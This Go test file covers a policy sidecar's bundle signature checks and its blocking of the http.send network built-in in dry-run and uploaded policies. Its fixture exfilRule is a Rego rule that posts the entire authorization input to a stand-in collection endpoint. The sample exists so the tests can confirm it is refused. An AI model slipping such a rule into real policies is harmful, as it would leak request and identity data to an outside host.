package sidecar

import (
	"encoding/json"
	"net/http"
	"path/filepath"
	"strings"
	"testing"

	"github.com/svc-dev/svc/engine/bundle"
	"github.com/svc-dev/svc/engine/dryrun"
	"github.com/svc-dev/svc/internal/testkit"
	"github.com/svc-dev/svc/internal/testkit/bundletest"
	"github.com/svc-dev/svc/reason"
)

// exfilRule posts the whole input to a listener elsewhere.
const exfilRule = `package svc.authz

allow if {
	resp := http.send({"method": "POST", "url": "http://127.0.0.1:1/collect", "body": input, "raise_error": false})
	resp.status_code == 204
}
`

// buildBundleWith bundles dir plus extra files, signed with signKey
// (unsigned when nil), network built-ins allowed, as core policy bundle
// builds it.
func buildBundleWith(t testing.TB, dir string, extra map[string]string, revision string, signKey []byte) []byte {
	t.Helper()
	for name, src := range extra {
		testkit.WriteFile(t, filepath.Join(dir, name), []byte(src))
	}
	return bundletest.Build(t, dir, bundle.BuildOptions{Revision: revision, SignKeyPEM: signKey, AllowNetworkBuiltins: true})
}

func startDryRun(t *testing.T, r *running, body []byte) (int, []byte) {
	t.Helper()
	return post(t, r, dryrun.PathSessions+"?duration=1m", body)
}

// TestDryRunCandidateRules: with policy.bundle_verify_key_file set, a
// dry-run candidate must be signed by that key (409 signed-bundle-required
// when unsigned, 422 bundle-signature-invalid when signed by another), and
// a candidate calling http.send does not compile (422
// policy-builtin-forbidden), as an upload or a polled bundle does not.
func TestDryRunCandidateRules(t *testing.T) {
	idp := newTestIdP(t)
	signKey, verifyKey := testkit.ECKeyPEM(t)
	otherKey, _ := testkit.ECKeyPEM(t)
	cfg := signedConfig(t, idp, verifyKey)
	r := startServer(t, Deps{Engine: newTestEngine(t, cfg), DryRun: dryrun.NewManager(dryrun.Deps{Logger: quietLogger()})})
	testkit.Eventually(t, "ready", r.isReady)

	plain := t.TempDir()
	writePolicy(t, plain, true)
	exfil := t.TempDir()
	writePolicy(t, exfil, false)
	tests := []struct {
		name     string
		body     []byte
		wantCode int
		wantErr  string
	}{
		{"unsigned", buildBundleWith(t, plain, nil, "c1", nil), http.StatusConflict, string(reason.SignedBundleRequired)},
		{"signed by another key", buildBundleWith(t, plain, nil, "c2", otherKey), http.StatusUnprocessableEntity, "bundle-signature-invalid"},
		{"signed, calls http.send", buildBundleWith(t, exfil, map[string]string{"exfil.rego": exfilRule}, "c3", signKey), http.StatusUnprocessableEntity, "policy-builtin-forbidden"},
		{"signed", buildBundleWith(t, plain, nil, "c4", signKey), http.StatusCreated, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			code, body := startDryRun(t, r, tt.body)
			if code != tt.wantCode || errorCode(body) != tt.wantErr {
				t.Fatalf("POST %s = %d %s, want %d %q", dryrun.PathSessions, code, body, tt.wantCode, tt.wantErr)
			}
			if tt.wantErr == "policy-builtin-forbidden" && !strings.Contains(string(body), "http.send") {
				t.Errorf("the refusal does not name the built-in: %s", body)
			}
		})
	}

	// An upload of the same bundle is refused with the same code.
	code, body := post(t, r, PathReloadPolicy, buildBundleWith(t, exfil, nil, "u1", signKey))
	if code != http.StatusUnprocessableEntity || errorCode(body) != "policy-builtin-forbidden" ||
		!strings.Contains(string(body), "policy.allow_network_builtins") {
		t.Errorf("upload calling http.send = %d %s, want 422 policy-builtin-forbidden naming the setting", code, body)
	}
}

// TestNetworkBuiltinsAllowed: policy.allow_network_builtins = true lets
// an upload and a dry-run candidate call http.send; the report of a
// session counts timeouts.
func TestNetworkBuiltinsAllowed(t *testing.T) {
	idp := newTestIdP(t)
	signKey, verifyKey := testkit.ECKeyPEM(t)
	cfg := signedConfig(t, idp, verifyKey)
	cfg.Policy.AllowNetworkBuiltins = true
	r := startServer(t, Deps{Engine: newTestEngine(t, cfg), DryRun: dryrun.NewManager(dryrun.Deps{Logger: quietLogger()})})
	testkit.Eventually(t, "ready", r.isReady)
	dir := t.TempDir()
	writePolicy(t, dir, false)
	b := buildBundleWith(t, dir, map[string]string{"exfil.rego": exfilRule}, "n1", signKey)
	code, body := startDryRun(t, r, b)
	var rep map[string]any
	if code != http.StatusCreated || json.Unmarshal(body, &rep) != nil {
		t.Fatalf("dry-run of a candidate calling http.send, allowed = %d %s", code, body)
	}
	if _, ok := rep["timeouts"]; !ok {
		t.Errorf("the report has no timeouts field: %s", body)
	}
	if code, body := post(t, r, PathReloadPolicy, b); code != http.StatusOK {
		t.Errorf("upload calling http.send, allowed = %d %s", code, body)
	}
}
